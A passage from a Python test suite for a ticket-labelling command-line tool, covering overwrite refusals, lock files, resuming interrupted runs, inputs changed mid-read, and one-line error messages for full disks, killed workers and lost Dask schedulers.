        assert "note\ufffd" in df.columns and list(df["note\ufffd"]) == ["", "x", ""]
        where = "line 2" if suffix == ".jsonl" else "element 2"
        assert where in df["error"][1] and "key 'note\ufffd'" in df["error"][1]
        assert "\\udfff" in df["error"][1]
        assert df["error"][0] == df["error"][2] == ""
        assert df["pred_department"][2] == "人社"
        assert result.summary["errors_by_kind"] == {"unreadable": 1}


def test_refuses_to_overwrite_and_explains(tiny_model_dir: Path, tmp_path: Path) -> None:
    src = write_csv(tmp_path / "in.csv", ticket_rows(4))
    out = tmp_path / "out.csv"
    label([src], tiny_model_dir, out, jobs=1)
    with pytest.raises(LabelError, match="already exists; use --force"):
        label([src], tiny_model_dir, out, jobs=1)
    label([src], tiny_model_dir, out, jobs=1, force=True)  # replaces it
    with pytest.raises(LabelError, match=r"unsupported output type '\.txt'"):
        label([src], tiny_model_dir, tmp_path / "out.txt", jobs=1)
    with pytest.raises(TicketFileError, match=r"no column 'body'.*--text-col"):
        label([src], tiny_model_dir, tmp_path / "o2.csv", ColumnMap(text="body"), jobs=1)
    labelled_before = write_csv(tmp_path / "again.csv", ticket_rows(2))
    pd.read_csv(labelled_before).assign(error="").to_csv(labelled_before, index=False)
    with pytest.raises(LabelError, match="already has output column"):
        label([labelled_before], tiny_model_dir, tmp_path / "o3.csv", jobs=1)


def test_an_out_name_whose_plots_are_too_long_a_name_is_refused_before_labelling(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # 80 Chinese characters + .csv, 244 bytes, is a valid name, but OUTPUT.departments.png is
    # 260 (.OUTPUT.summary.json.tmp 262): every row was labelled and written, then "cannot write …: File name too long … rerun
    # the same command with --resume", which failed the same way every time.
    if os.pathconf(tmp_path, "PC_NAME_MAX") != 255:
        pytest.skip("a file system whose names are not at most 255 bytes")
    src = write_csv(tmp_path / "in.csv", ticket_rows(4))
    out = tmp_path / ("批" * 80 + ".csv")
    args = ["label", str(src), "--model", str(tiny_model_dir), "--out", str(out), "--jobs", "1"]
    r = CliRunner().invoke(app, args)
    assert r.exit_code == 2, r.output
    said = " ".join(without_progress(r.output).split())
    # The longest: the summary's temporary name.
    assert (
        f".{'批' * 80}.csv.summary.json.tmp, written beside it, is 262 bytes, over the 255" in said
    )
    assert "at least 7 bytes shorter" in said and "--resume" not in said, said
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv"]  # nothing labelled or made
    fits = tmp_path / ("批" * 77 + ".csv")  # .OUTPUT.summary.json.tmp: 253 bytes
    r = CliRunner().invoke(app, [*args[:-3], str(fits), "--jobs", "1"])
    assert r.exit_code == 0, r.output
    assert len(read_output(fits)) == 4


class Interrupt(Exception):
    pass


def test_a_second_run_into_an_output_being_written_is_refused_and_touches_nothing(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # Two runs into one --out (a nightly cron job and the same command typed by hand): the second
    # took the running run's parts for an interrupted run's. Before its first chunk it deleted
    # them silently; after it, it said to use --force, which deleted them while they were written,
    # and the first run then renamed the second's half-written file into place and reported every
    # row labelled. With --resume both wrote the same parts.
    src = write_csv(tmp_path / "in.csv", ticket_rows(30))
    out = tmp_path / "out.csv"
    parts = tmp_path / "out.csv.parts"
    said: list[str] = []
    untouched: list[bool] = []

    def second_run(stage: str, done: int, total: int) -> None:
        if said:
            return
        before = sorted((p.name, p.stat().st_mtime_ns) for p in parts.iterdir())
        for options in ({}, {"force": True}, {"resume": True}):
            with pytest.raises(LabelError) as e:
                label([src], tiny_model_dir, out, jobs=1, chunk_size=7, **options)
            said.append(str(e.value))
        untouched.append(before == sorted((p.name, p.stat().st_mtime_ns) for p in parts.iterdir()))

    label([src], tiny_model_dir, out, jobs=1, chunk_size=7, progress=second_run)
    running = (
        f"{out} is being written by another paidan label run (pid {os.getpid()}), which is still "
        "running; wait for it to finish (or stop it, then continue it with --resume)"
    )
    assert said == [running] * 3
    assert untouched == [True]
    assert list(read_output(out)["id"]) == [r[0] for r in ticket_rows(30)]
    # The lock is the run's: nothing of it stays beside the output.
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["in.csv", "out.csv", "out.csv.summary.json"]
        + [p.name for p in tmp_path.glob("out.csv.*.png")]
    )

    # It ends with the run, however the run ends: an interrupted run is continued.
    def stop(stage: str, done: int, total: int) -> None:
        raise Interrupt

    with pytest.raises(Interrupt):
        label([src], tiny_model_dir, out, jobs=1, chunk_size=7, force=True, progress=stop)
    label([src], tiny_model_dir, out, jobs=1, chunk_size=7, resume=True)
    assert len(read_output(out)) == 30


@pytest.mark.parametrize("change", ["appended", "rewritten"])
def test_an_input_changed_while_it_is_read_stops_the_run_naming_it(
    tiny_model_dir: Path, tmp_path: Path, change: str
) -> None:
    # An export still being written (rows appended as the run read it) or a file replaced in place
    # by the next export: the run read on into the new bytes and wrote the mixture as if it were
    # one file's rows (a line half-written when it was read labelled as a whole ticket), reported
    # every row done, and left a manifest recording the file's size at the start.
    src = write_csv(tmp_path / "in.csv", ticket_rows(200))
    size = src.stat().st_size
    out = tmp_path / "out.csv"

    def change_input(stage: str, done: int, total: int) -> None:
        if done == 7:  # the first chunk is finished; the file is still being read
            if change == "appended":
                with open(src, "a", encoding="utf-8") as f:
                    f.write("R99999,路灯,路灯不亮，晚上")  # its line is not finished yet
            else:
                write_csv(src, ticket_rows(300)[200:])  # the next export, 100 rows

    with pytest.raises(LabelError) as e:
        label([src], tiny_model_dir, out, jobs=1, chunk_size=7, progress=change_input)
    now = src.stat().st_size
    assert str(e.value) == (
        f"{src} changed while it was being read (size {size:,} bytes at the start, {now:,} "
        "now): its rows would not be one version of the file's; nothing is written. Label a "
        "copy that nothing writes to (or wait until the export is finished), then run again"
    )
    # No --resume can continue from the chunks read before: it refuses a changed input.
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv"]


def test_an_input_changed_while_it_is_read_stops_the_run_at_the_next_chunk(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A million-row backlog changed in its first minutes was found changed only once it had all
    # been read and labelled, hours later: the run stops at the next chunk read.
    src = write_csv(tmp_path / "in.csv", ticket_rows(200))
    out = tmp_path / "out.csv"
    done_seen: list[int] = []

    def change_input(stage: str, done: int, total: int) -> None:
        if stage == "labelling":
            done_seen.append(done)
        if done == 7:
            with open(src, "a", encoding="utf-8") as f:
                f.write("R99999,路灯,路灯不亮，晚上")

    with pytest.raises(LabelError, match="changed while it was being read"):
        label([src], tiny_model_dir, out, jobs=1, chunk_size=7, progress=change_input)
    assert max(done_seen) == 7
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv"]


def test_an_input_changed_after_it_is_read_is_warned_of_with_the_output_kept(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # The first of two inputs replaced by the next export while the second was labelled: the
    # output held the first's rows as they were at the start (each read to its end unchanged),
    # and nothing said that the file beside it was no longer that version.
    first = write_csv(tmp_path / "a.csv", ticket_rows(14))
    second = write_csv(tmp_path / "b.csv", ticket_rows(28)[14:])
    size = first.stat().st_size
    out = tmp_path / "out.csv"

    def replace_first(stage: str, done: int, total: int) -> None:
        if done == 21:  # a.csv is read; b.csv's first chunk is finished
            write_csv(first, ticket_rows(300)[200:])

    result = label(
        [first, second], tiny_model_dir, out, jobs=1, chunk_size=7, progress=replace_first
    )
    now = first.stat().st_size
    assert list(read_output(out)["id"]) == [r[0] for r in ticket_rows(28)]
    assert result.summary["inputs_changed_after_read"] == [str(first)]
    assert (
        f"{first} changed after its rows were read (size {size:,} bytes at the start, {now:,} "
        f"now): {out} labels its rows as they were when the run started; label it again "
        "(a copy that nothing writes to) for the rows it holds now"
    ) in result.warnings


def test_a_parquet_input_replaced_in_place_while_it_is_read_stops_the_run_naming_it(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A Parquet file is read a row group at a time, by the offsets its footer gave at the start:
    # the next export written over it made the next group's bytes another file's, and the run
    # ended in a traceback (OSError: Corrupt snappy compressed data) with its chunks left behind.
    def table(rows: list[list[str]]) -> pa.Table:
        return pa.Table.from_pylist([dict(id=i, title=t, text=x) for i, t, x in rows])

    src = tmp_path / "in.parquet"
    pq.write_table(table(ticket_rows(200)), src, row_group_size=7)
    size = src.stat().st_size
    out = tmp_path / "out.csv"

    def replace_input(stage: str, done: int, total: int) -> None:
        if done == 7:  # the first chunk is finished; the file is still being read
            pq.write_table(table(ticket_rows(300)[200:]), src)  # the next export, 100 rows

    with pytest.raises(LabelError) as e:
        label([src], tiny_model_dir, out, jobs=1, chunk_size=7, progress=replace_input)
    now = src.stat().st_size
    assert str(e.value) == (
        f"{src} changed while it was being read (size {size:,} bytes at the start, {now:,} "
        "now): its rows would not be one version of the file's; nothing is written. Label a "
        "copy that nothing writes to (or wait until the export is finished), then run again"
    )
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.parquet"]


def test_a_resume_missing_a_finished_chunk_says_so(tiny_model_dir: Path, tmp_path: Path) -> None:
    # A part removed by hand (or by a run killed while it removed its parts): --resume ended in
    # a traceback, FileNotFoundError: [Errno 2] No such file or directory: '…/part-000001.arrow'.
    src = write_csv(tmp_path / "in.csv", ticket_rows(30))
    out = tmp_path / "out.csv"

    def stop_after_three_chunks(stage: str, done: int, total: int) -> None:
        if done >= 21:
            raise Interrupt

    with pytest.raises(Interrupt):
        label([src], tiny_model_dir, out, jobs=1, chunk_size=7, progress=stop_after_three_chunks)
    parts = tmp_path / "out.csv.parts"
    (parts / "part-000001.arrow").unlink()
    with pytest.raises(LabelError) as e:
        label([src], tiny_model_dir, out, jobs=1, chunk_size=7, resume=True)
    assert str(e.value) == (
        f"cannot resume into {out}: {parts / 'part-000001.arrow'}, one of the 3 finished chunks "
        f"recorded in {parts / 'manifest.json'}, cannot be read ({os.strerror(errno.ENOENT)}); "
        "rerun without --resume and with --force to start over"
    )
    label([src], tiny_model_dir, out, jobs=1, chunk_size=7, force=True)
    assert list(read_output(out)["id"]) == [r[0] for r in ticket_rows(30)]


def test_a_run_stopped_while_it_removes_its_parts_leaves_none_to_resume(
    tiny_model_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Killed while it removed OUTPUT.parts/ at the end, a run left the manifest of its finished
    # chunks beside some of them gone: --resume, which it advised, ended in a traceback.
    src = write_csv(tmp_path / "in.csv", ticket_rows(30))
    out = tmp_path / "out.csv"
    parts = tmp_path / "out.csv.parts"
    rmtree = training.label.shutil.rmtree

    def killed_halfway(path: Any, *args: Any, **kwargs: Any) -> None:
        if Path(path) == parts and out.exists():  # at the end: the parts go, the manifest stays
            for part in parts.glob("part-*.arrow"):
                part.unlink()
            raise Interrupt
        rmtree(path, *args, **kwargs)

    monkeypatch.setattr(training.label.shutil, "rmtree", killed_halfway)
    with pytest.raises(Interrupt):
        label([src], tiny_model_dir, out, jobs=1, chunk_size=7)
    monkeypatch.undo()
    with pytest.raises(LabelError) as e:
        label([src], tiny_model_dir, out, jobs=1, chunk_size=7, resume=True)
    assert str(e.value) == (
        f"{out} already exists and no run into it was interrupted (there is no out.csv.parts to "
        "resume): it finished; use --force to label again"
    )
    assert list(read_output(out)["id"]) == [r[0] for r in ticket_rows(30)]


@pytest.fixture
def new_children() -> Callable[[], list[multiprocessing.process.BaseProcess]]:
    """The child processes started since the test began: a run's own. An earlier test of the same
    process may have left training's workers (joblib keeps them 5 idle minutes), which a test that
    signalled or counted every child took for the run's."""
    before = set(multiprocessing.active_children())
    return lambda: [c for c in multiprocessing.active_children() if c not in before]


def test_ctrl_c_reaching_the_workers_is_left_to_the_run(
    tiny_model_dir: Path, tmp_path: Path, new_children: Callable[[], list[Any]]
) -> None:
    # A terminal's Ctrl-C signals the whole process group. Each worker caught it: one in the
    # middle of a chunk sent it back as the chunk's result, one waiting for a chunk died of it (a
    # Ctrl-C reported as "a worker process ended abruptly … the out-of-memory killer"), one in the
    # middle of sending a result left half of it in the pipe, and the run's shutdown then waited
    # for the rest for ever. The run itself stops the workers; they leave Ctrl-C to it.
    src = write_csv(tmp_path / "in.csv", ticket_rows(30))
    out = tmp_path / "out.csv"
    signalled: list[int] = []

    def ctrl_c_to_the_workers(stage: str, done: int, total: int) -> None:
        if not signalled:
            for worker in new_children():
                os.kill(worker.pid, signal.SIGINT)  # type: ignore[arg-type]
                signalled.append(worker.pid)  # type: ignore[arg-type]

    outcome: BaseException | None = None
    try:
        label([src], tiny_model_dir, out, jobs=2, chunk_size=3, progress=ctrl_c_to_the_workers)
    except BaseException as e:  # KeyboardInterrupt, or a LabelError for a worker gone
        outcome = e
    assert len(signalled) == 2
    assert outcome is None
    assert list(read_output(out)["id"]) == [r[0] for r in ticket_rows(30)]


def test_a_second_ctrl_c_does_not_cut_the_pools_shutdown_short(
    tiny_model_dir: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    new_children: Callable[[], list[Any]],
) -> None:
    # Ctrl-C pressed again (or `timeout -s INT`, which signals the run, then its process group)
    # while the run shut its pool down interrupted the wait for the pool's manager thread, and
    # Python (3.9-3.11, CPython issue 90882) then took that thread for ended: the interpreter
    # exited past it, closed the queue its stop messages go through, and waited for ever for
    # workers that never got them, after printing "interrupted: …".
    src = write_csv(tmp_path / "in.csv", ticket_rows(12))
    shutdown = ProcessPoolExecutor.shutdown

    def ctrl_c_again(self: ProcessPoolExecutor, *args: Any, **kwargs: Any) -> None:
        os.kill(os.getpid(), signal.SIGINT)
        shutdown(self, *args, **kwargs)

    monkeypatch.setattr(ProcessPoolExecutor, "shutdown", ctrl_c_again)
    try:
        with pytest.raises(KeyboardInterrupt):  # the Ctrl-C is not lost: it ends the run
            label([src], tiny_model_dir, tmp_path / "out.csv", jobs=2, chunk_size=3)
        assert new_children() == []  # the pool's workers are gone when it ends
    finally:
        for worker in new_children():
            worker.kill()


def test_sigterm_while_the_pool_shuts_down_stops_the_run_once_the_pool_is_down(
    tiny_model_dir: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    new_children: Callable[[], list[Any]],
) -> None:
    # SIGTERM (systemd, `timeout`, `docker stop`) arriving while a run shut its pool down, after a
    # Ctrl-C or at its end, raised paidan's Terminated in the middle of the shutdown: the run
    # said "stopped by SIGTERM" with its worker processes still running.
    from paidan.cli import Terminated, stop_on_sigterm

    src = write_csv(tmp_path / "in.csv", ticket_rows(12))
    shutdown = ProcessPoolExecutor.shutdown

    def sigterm_meanwhile(self: ProcessPoolExecutor, *args: Any, **kwargs: Any) -> None:
        os.kill(os.getpid(), signal.SIGTERM)
        shutdown(self, *args, **kwargs)

    monkeypatch.setattr(ProcessPoolExecutor, "shutdown", sigterm_meanwhile)
    restore = stop_on_sigterm()
    try:
        with pytest.raises(Terminated):  # not lost: it stops the run, as the CLI reports it
            label([src], tiny_model_dir, tmp_path / "out.csv", jobs=2, chunk_size=3)
        assert new_children() == []  # ... once the pool is down
    finally:
        restore()
        for worker in new_children():
            worker.kill()


def test_a_lock_file_left_by_a_killed_run_does_not_stop_the_next(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # kill -9 ends a run without cleanup: the kernel drops its lock, the file stays behind.
    src = write_csv(tmp_path / "in.csv", ticket_rows(5))
    out = tmp_path / "out.csv"
    (tmp_path / ".out.csv.lock").write_text("999999\n")
    label([src], tiny_model_dir, out, jobs=1)
    assert len(read_output(out)) == 5
    assert not (tmp_path / ".out.csv.lock").exists()


def test_resume_after_an_interruption_gives_identical_bytes(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    rows = ticket_rows(60)
    rows[10][2] = ""
    src = write_csv(tmp_path / "in.csv", rows)
    label([src], tiny_model_dir, tmp_path / "whole.parquet", jobs=1, chunk_size=7)

    out = tmp_path / "out.parquet"

    hidden_during_run: list[str] = []

    def stop_after_three_chunks(stage: str, done: int, total: int) -> None:
        # What a `kill -9` at this moment would leave beside the output: the file being written
        # lives inside OUTPUT.parts/, which a finished --resume removes; the run's lock file, which
        # holds nothing of the output, is removed by a finished run too.
        hidden_during_run.extend(p.name for p in tmp_path.glob(".*"))
        if done >= 21:
            raise Interrupt

    with pytest.raises(Interrupt):
        label([src], tiny_model_dir, out, jobs=1, chunk_size=7, progress=stop_after_three_chunks)
    assert not out.exists()  # a half-done run never looks finished
    manifest = json.loads((tmp_path / "out.parquet.parts" / "manifest.json").read_text())
    assert manifest["done"] == 3
    assert set(hidden_during_run) == {".out.parquet.lock"}

    with pytest.raises(LabelError, match="interrupted run; continue it with --resume"):
        label([src], tiny_model_dir, out, jobs=1, chunk_size=7)
    # What the run used, and the options that continue it, not only --force to start over.
    advice = "used --chunk-size 7 (now 8); to continue it, rerun with --resume --chunk-size 7, or"
    with pytest.raises(LabelError, match=re.escape(advice)):
        label([src], tiny_model_dir, out, jobs=1, chunk_size=8, resume=True)
    advice = "used no --delimiter (now ','); to continue it, rerun with --resume and without --"
    with pytest.raises(LabelError, match=re.escape(advice)):
        label([src], tiny_model_dir, out, ColumnMap(delimiter=","), chunk_size=7, resume=True)
    advice = "used --joint (now --no-joint); to continue it, rerun with --resume --joint, or rerun"
    with pytest.raises(LabelError, match=re.escape(advice)):
        label([src], tiny_model_dir, out, chunk_size=7, resume=True, joint=False)
    advice = "used --no-evidence (now --evidence); to continue it, rerun with --resume --no-evid"
    with pytest.raises(LabelError, match=re.escape(advice)):
        label([src], tiny_model_dir, out, chunk_size=7, resume=True, evidence=True)

    seen: list[int] = []
    result = label(
        [src],
        tiny_model_dir,
        out,
        jobs=1,
        chunk_size=7,
        resume=True,
        progress=lambda stage, done, total: seen.append(done),
    )
    assert result.resumed_chunks == 3
    assert seen[0] == 28  # the first progress report is the first newly labelled chunk
    assert out.read_bytes() == (tmp_path / "whole.parquet").read_bytes()
    assert result.summary["rows"] == 60 and result.summary["errors"] == 1
    assert not (tmp_path / "out.parquet.parts").exists()
    assert not (tmp_path / ".out.parquet.lock").exists()
    # The rate is over the 39 rows labelled now, not the 60 (21 took the interrupted run's time).
    s = result.summary
    assert s["rows_per_second"] == round(39 / max(s["seconds"], 1e-9), 1)
    assert s["resumed_rows"] == 21


@pytest.mark.parametrize(
    ("target", "fails_at", "kept"), [("part", 3, 2), ("output", 2, 2), ("part", 1, 0)]
)
def test_a_full_disk_is_one_line_naming_the_file_and_resume(
    tiny_model_dir: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    target: str,
    fails_at: int,
    kept: int,
) -> None:
    # A write error (ENOSPC, EFBIG, a permission) ended in a 46-line traceback, exit 1, naming
    # neither the file nor --resume.
    import training.label
    import training.label_io

    src = write_csv(tmp_path / "in.csv", ticket_rows(20))
    whole = tmp_path / "whole.csv"
    label([src], tiny_model_dir, whole, jobs=1, chunk_size=4)
    out = tmp_path / "out.csv"
    calls = 0

    def full(real: Callable[..., None]) -> Callable[..., None]:
        def write(*args: object) -> None:
            nonlocal calls
            calls += 1
            if calls == fails_at:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
            real(*args)

        return write

    if target == "part":
        monkeypatch.setattr(
            training.label, "write_part_atomic", full(training.label.write_part_atomic)
        )
        failed = tmp_path / "out.csv.parts" / f"part-{fails_at - 1:06d}.arrow"
    else:
        monkeypatch.setattr(
            training.label_io.OutputWriter, "write", full(training.label_io.OutputWriter.write)
        )
        failed = tmp_path / "out.csv.parts" / ".out.csv.tmp"
    args = ["label", str(src), "--model", str(tiny_model_dir), "--out", str(out)]
    res = CliRunner().invoke(app, [*args, "--jobs", "1", "--chunk-size", "4"])
    assert res.exit_code == 2, res.output
    said = without_progress(res.output)
    assert said.startswith(f"error: cannot write {failed}: No space left on device")
    assert len(said.strip().splitlines()) == 1 and "Traceback" not in res.output
    resume = f"the {kept} finished chunk{' is' if kept == 1 else 's are'} kept in {out}.parts"
    assert (resume in res.output) == bool(kept)
    assert ("--resume" in res.output) == bool(kept)
    assert not out.exists()

    monkeypatch.undo()  # space freed
    again = CliRunner().invoke(app, [*args, "--jobs", "1", "--chunk-size", "4", "--resume"])
    assert again.exit_code == 0, again.output
    assert out.read_bytes() == whole.read_bytes()


def test_a_worker_process_killed_mid_run_is_one_line_naming_resume(
    tiny_model_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A pool worker killed by the OOM killer ended the run in a BrokenProcessPool traceback, with
    # no word that the finished chunks are kept for --resume.
    import multiprocessing
    import signal

    import training.label

    if multiprocessing.get_start_method() != "fork":
        pytest.skip("the workers must inherit the patched predict_rows")
    rows = ticket_rows(60)
    rows[40][2] = "KILL-THIS-WORKER " + rows[40][2]
    src = write_csv(tmp_path / "in.csv", rows)
    whole = tmp_path / "whole.csv"
    label([src], tiny_model_dir, whole, jobs=1, chunk_size=4)
    real = training.label.predict_rows

    def oom(
        router: object,
        tickets: list[tuple[str, str]],
        joint: bool = True,
        similar_k: int = 5,
        evidence: bool = False,
    ) -> object:
        if any(text.startswith("KILL-THIS-WORKER") for _, text in tickets):
            os.kill(os.getpid(), signal.SIGKILL)
        return real(router, tickets, joint, similar_k, evidence)  # type: ignore[arg-type]

    monkeypatch.setattr(training.label, "predict_rows", oom)
    out = tmp_path / "out.csv"
    args = ["label", str(src), "--model", str(tiny_model_dir), "--out", str(out)]
    args += ["--jobs", "2", "--chunk-size", "4"]
    res = CliRunner().invoke(app, args)
    assert res.exit_code == 2, res.output
    said = " ".join(without_progress(res.output).split())
    assert said.startswith("error: a labelling worker process ended abruptly (killed by a signal")
    assert re.search(
        rf"the \d+ finished chunks are kept in {re.escape(str(out))}\.parts: rerun the same "
        "command with --resume to continue from there",
        said,
    ), said
    assert len(without_progress(res.output).strip().splitlines()) == 1
    assert "Traceback" not in res.output

    monkeypatch.undo()
    again = CliRunner().invoke(app, [*args, "--resume"])
    assert again.exit_code == 0, again.output
    assert out.read_bytes() == whole.read_bytes()


def test_a_lost_dask_scheduler_is_one_line_naming_resume(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # The scheduler gone mid-run (restarted, network cut) ended in a FutureCancelledError
    # traceback; "re-run your work" without --resume was refused ("holds an interrupted run").
    pytest.importorskip("distributed")
    from distributed import LocalCluster

    src = write_csv(tmp_path / "in.csv", ticket_rows(40))
    cluster = LocalCluster(
        n_workers=1, processes=False, threads_per_worker=1, dashboard_address=None
    )
    address = cluster.scheduler_address
    out = tmp_path / "out.csv"

    def lose_the_scheduler(stage: str, done: int, total: int) -> None:
        if done == 8:
            cluster.close()

    with pytest.raises(LabelError) as failed:
        label(
            [src],
            tiny_model_dir,
            out,
            engine="dask",
            scheduler=address,
            chunk_size=4,
            progress=lose_the_scheduler,
        )
    assert str(failed.value) == (
        f"the Dask cluster at {address} failed: the connection to the scheduler was lost; the 2 "
        f"finished chunks are kept in {out}.parts: rerun the same command with --resume to "
        "continue from there"
    )
    resumed = label([src], tiny_model_dir, out, jobs=1, chunk_size=4, resume=True)
    assert resumed.resumed_chunks == 2 and resumed.summary["rows"] == 40


def test_a_worker_lost_with_the_uploaded_model_is_one_line_naming_it(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # The only worker holding the --upload-model copy left (the OOM killer): the run ended with
    # "a chunk's task was cancelled (lost dependencies)", naming neither the worker nor the model.
    pytest.importorskip("distributed")
    from distributed import LocalCluster

    src = write_csv(tmp_path / "in.csv", ticket_rows(40))
    out = tmp_path / "out.csv"
    with LocalCluster(
        n_workers=1, processes=False, threads_per_worker=1, dashboard_address=None
    ) as cluster:
        address = cluster.scheduler_address

        def lose_the_worker(stage: str, done: int, total: int) -> None:
            if done == 8:
                cluster.sync(next(iter(cluster.workers.values())).close)

        with pytest.raises(LabelError) as failed:
            label(
                [src],
                tiny_model_dir,
                out,
                engine="dask",
                scheduler=address,
                chunk_size=4,
                progress=lose_the_worker,
                upload_model=True,
            )
    message = str(failed.value)
    assert message.startswith(
        f"the Dask cluster at {address} failed: a worker holding the model sent by "
        "--upload-model left the cluster (killed, out of memory or scaled down) and the model "
        "went with it; the chunks' tasks were cancelled ("
    )
    assert message.endswith("rerun the same command with --resume to continue from there")
    resumed = label([src], tiny_model_dir, out, jobs=1, chunk_size=4, resume=True)
    assert resumed.resumed_chunks >= 1 and resumed.summary["rows"] == 40


def test_a_resume_after_a_promotion_says_which_model_continues_the_run(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # The nightly retrain promoted a model before the staff resumed: the refusal offered only
    # --force, which threw away the finished chunks, though --model <the run's version> resumes.
    from model import registry

    root = three_versions(tiny_model_dir, tmp_path)
    for name in ("v1", "v2"):
        meta = json.loads((root / name / "metadata.json").read_text(encoding="utf-8"))
        (root / name / "metadata.json").write_text(json.dumps({**meta, "version": name}))
    registry.set_current(root, "v1", record=False)
    src = write_csv(tmp_path / "in.csv", ticket_rows(30))
    whole = tmp_path / "whole.csv"
    label([src], root / "v1", whole, jobs=1, chunk_size=7)

    def stop(stage: str, done: int, total: int) -> None:
        raise Interrupt

    out = tmp_path / "out.csv"
    with pytest.raises(Interrupt):
        label([src], root / "v1", out, jobs=1, chunk_size=7, progress=stop)
    registry.set_current(root, "v2", record=False)  # the nightly promotion
    args = ["label", str(src), "--out", str(out), "--jobs", "1", "--resume"]
    env = {"PAIDAN_MODEL_ROOT": str(root)}

    res = CliRunner().invoke(app, args, env=env)
    assert res.exit_code == 2
    assert (
        "the interrupted run used model v1 (now v2), --chunk-size 7 (now 2000); to continue it, "
        f"rerun with --resume --model {root / 'v1'} --chunk-size 7, or rerun without --resume "
        "and with --force to start over"
    ) in res.output

    gone = tmp_path / "v1-elsewhere"
    (root / "v1").rename(gone)  # models gc deleted it
    res = CliRunner().invoke(app, [*args, "--chunk-size", "7"], env=env)
    assert res.exit_code == 2
    assert f"model v1 is no longer in {root} (`paidan models gc` deletes old" in res.output
    assert "to continue it" not in res.output and "--force to start over" in res.output

    gone.rename(root / "v1")
    res = CliRunner().invoke(
        app, [*args, "--model", str(root / "v1"), "--chunk-size", "7"], env=env
    )
    assert res.exit_code == 0, res.output
    assert out.read_bytes() == whole.read_bytes()
    # The rate is over the rows labelled now: the first chunk's 7 took the interrupted run's time.
    assert "rows/s over the 23 rows labelled now (resumed after 1 chunk);" in res.output


@pytest.mark.parametrize(
    ("stop", "code", "said"),
    [("KeyboardInterrupt", 130, "interrupted"), ("Terminated", 143, "stopped by SIGTERM")],
)
def test_an_interrupted_cli_run_says_what_is_kept_and_how_to_continue(
    tiny_model_dir: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    stop: str,
    code: int,
    said: str,
) -> None:
    # Ctrl-C ended `paidan label` with exit 130 and nothing on stderr.
    import paidan.cli
    import training.label

    stopping = paidan.cli.Terminated if stop == "Terminated" else KeyboardInterrupt
    src = write_csv(tmp_path / "in.csv", ticket_rows(20))
    whole = tmp_path / "whole.csv"
    label([src], tiny_model_dir, whole, jobs=1, chunk_size=4)
    out = tmp_path / "out.csv"
    args = ["label", str(src), "--model", str(tiny_model_dir), "--out", str(out)]
    args += ["--jobs", "1", "--chunk-size", "4"]

    def stop_after_two_chunks(self: object, stage: str, done: int, total: int) -> None:
        if done >= 8:
            raise stopping

    monkeypatch.setattr(paidan.cli._RichProgress, "__call__", stop_after_two_chunks)
    res = CliRunner().invoke(app, args)
    assert res.exit_code == code, res.output
    assert res.output == (
        f"{said}: the 2 finished chunks are kept in {out}.parts; rerun the same command with "
        "--resume to continue from there\n"
    )

    def stop_while_loading(*args: object, **kwargs: object) -> None:
        raise stopping

    monkeypatch.setattr(training.label, "verify", stop_while_loading)
    res = CliRunner().invoke(
        app, ["label", str(src), "--model", str(tiny_model_dir), "--out", str(tmp_path / "o2.csv")]
    )
    assert res.exit_code == code
    assert res.output == f"{said} before a chunk was finished; nothing is kept\n"

    monkeypatch.undo()
    res = CliRunner().invoke(app, [*args, "--resume"])
    assert res.exit_code == 0, res.output
    assert out.read_bytes() == whole.read_bytes()


def test_cli_label_prints_a_summary(tiny_model_dir: Path, tmp_path: Path) -> None:
    src = write_csv(tmp_path / "in.csv", [*ticket_rows(5), ["E1", "空", ""]])
    out = tmp_path / "out.csv"
    res = CliRunner().invoke(
        app,
        ["label", str(src), "--model", str(tiny_model_dir), "--out", str(out), "--jobs", "1"],
    )
    assert res.exit_code == 0, res.output
    assert "labelled" in res.output and "empty text" in res.output
    assert len(read_output(out)) == 6
    summary = json.loads((tmp_path / "out.csv.summary.json").read_text(encoding="utf-8"))
    assert summary["rows"] == 6 and summary["errors"] == 1
    assert (tmp_path / "out.csv.departments.png").is_file()
    assert (tmp_path / "out.csv.confidence.png").is_file()

    again = CliRunner().invoke(
        app,
        ["label", str(src), "--model", str(tiny_model_dir), "--out", str(out), "--jobs", "1"],
    )
    assert again.exit_code == 2
    assert "already exists" in again.output


def test_a_run_without_labelled_rows_leaves_no_earlier_runs_charts(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A run that labels no row draws no chart; --force into an earlier run's output kept that
    # run's charts beside the new file, its departments and scores shown as this run's.
    out = tmp_path / "out.csv"
    label([write_csv(tmp_path / "in.csv", ticket_rows(5))], tiny_model_dir, out, jobs=1)
    charts = [tmp_path / "out.csv.departments.png", tmp_path / "out.csv.confidence.png"]
    assert all(p.is_file() for p in charts)
    empty = write_csv(tmp_path / "empty.csv", [["E1", "空", ""], ["E2", "空", " "]])
    result = label([empty], tiny_model_dir, out, jobs=1, force=True)
    assert result.summary["labelled"] == 0 and result.summary["plots"] == [] == result.plots
    assert [p.name for p in charts if p.exists()] == []


def test_cli_label_into_a_closed_pipe_exits_as_a_unix_tool_and_still_warns(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # `paidan label … | head -1`: the reader gone, it exited 1 with an empty stderr, the
    # warnings that follow the summary unsaid. Now: 141 (128 + SIGPIPE), as a Unix tool killed by
    # SIGPIPE, no traceback, and the warnings still on stderr.
